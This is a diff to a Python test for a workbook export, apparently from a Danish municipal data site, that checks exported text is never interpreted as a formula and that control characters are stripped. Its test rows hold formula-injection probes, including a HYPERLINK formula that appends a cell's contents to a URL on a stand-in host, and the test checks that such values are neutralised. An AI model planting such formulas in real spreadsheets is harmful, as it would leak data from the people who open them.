@@ -239,8 +239,9 @@ def test_workbook_text_never_becomes_a_formula_and_bytes_are_the_data_versions()
     hostile = '=HYPERLINK("https://example.org/?"&A1,"klik")'
     rows = [{"document_id": "101-2017-01-01", "text": hostile, "quote": "+45 12 34 56 78", "reason": "-1",
              "note": "@SUM(A1)"}]
-    data = workbook_bytes({"non_figures": rows}, [("Titel", "=1+1")], {}, "2018-03-01")
-    assert data == workbook_bytes({"non_figures": rows}, [("Titel", "=1+1")], {}, "2018-03-01")
+    about = [("Titel", "=1+1"), ("Beskrivelse", "kontrol\x01tegn\x0b")]  # openpyxl refuses \x01 in a cell
+    data = workbook_bytes({"non_figures": rows}, about, {}, "2018-03-01")
+    assert data == workbook_bytes({"non_figures": rows}, about, {}, "2018-03-01")
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         assert not any(b"<f>" in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
         assert b"2018-03-01T00:00:00Z" in zf.read("docProps/core.xml")
@@ -251,6 +252,7 @@ def test_workbook_text_never_becomes_a_formula_and_bytes_are_the_data_versions()
     assert all(c.data_type == "s" for c in row)
     assert [c.quotePrefix for c in row] == [False, True, True, True, True]
     assert book["Om data"]["B2"].value == "=1+1" and book["Om data"]["B2"].data_type == "s"
+    assert book["Om data"]["B3"].value.startswith("kontrol") and "\x01" not in book["Om data"]["B3"].value
 
 
 def test_every_kommune_page_and_the_data_page_link_their_workbook(built_site, packages):
